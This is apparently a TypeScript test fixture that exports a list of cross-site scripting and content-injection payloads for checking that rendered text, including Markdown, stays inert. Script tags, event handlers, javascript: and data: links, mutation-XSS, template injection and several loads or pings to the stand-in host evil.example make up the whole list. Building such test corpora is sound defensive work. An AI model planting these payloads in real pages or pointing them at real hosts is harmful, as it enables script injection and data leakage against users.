/** Where a payload would call, if one of them ran. Nothing is there. */
const away = 'https://evil.example';
/** What a payload does that runs. */
const fire = 'window.fired=1';

/** Texts that would run a script or send a request where somebody shows them as anything but text. */
export const payloads: readonly string[] = [
  `<script>${fire}</script>`,
  `<img src=x onerror="${fire}">`,
  `<svg/onload=${fire}>`,
  `<svg><script href="${away}/a.js"/></svg>`,
  `<iframe srcdoc="<script>parent.${fire}</script>"></iframe>`,
  `<details open ontoggle=${fire}>`,
  `<style>@import "${away}/a.css";</style>`,
  `<link rel=stylesheet href=${away}/b.css>`,
  `<base href=${away}/>`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  `<form action=${away}><button autofocus onfocus=${fire}>`,
  `![a](${away}/pixel.png)`,
  `[![a](${away}/b.png)](javascript:${fire})`,
  `[go](javascript:${fire}) [go](&#106;avascript:${fire}) [go](data:text/html,<script>${fire}</script>)`,
  `<javascript:${fire}>`,
  `"><img src=x onerror=${fire}>`,
  `\u202e\u2066</textarea><script>${fire}</script>`,
  `{{ constructor.constructor('${fire}')() }} \${${fire}}`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${fire}&gt;">`,
  `<object data="${away}/o.swf"></object><embed src="${away}/e">`,
  `<video src=x onerror=${fire}></video><audio src=${away}/a.mp3 autoplay>`,
  `<a href="//evil.example/x" ping="${away}/ping">x</a>`,
];

/** All of them, as paragraphs: for texts that are shown as Markdown. */
export const allPayloads = payloads.join('\n\n');
